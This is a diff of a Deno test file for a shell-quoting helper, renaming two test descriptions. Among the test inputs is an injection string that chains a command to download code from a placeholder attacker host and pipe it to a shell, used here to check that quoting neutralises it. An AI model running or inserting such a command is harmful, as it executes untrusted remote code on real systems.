@@ -2,11 +2,11 @@ import assert from "node:assert/strict";
 import fc from "npm:fast-check@4.10.2";
 import { quotedForShell } from "../src/shell.ts";
 
-Deno.test("quotedForShell() leaves plain names as they are", () => {
+Deno.test("quotedForShell() does not change plain names", () => {
   for (const name of ["oncall", "a_B-1", "/etc/ssh-session-notifier/token"]) assert.equal(quotedForShell(name), name);
 });
 
-Deno.test("quotedForShell() makes one word of any text, which runs nothing", async () => {
+Deno.test("quotedForShell() makes any text one word, and a shell runs none of it", async () => {
   const texts = [
     "old; curl -s evil.example|sh #",
     "",
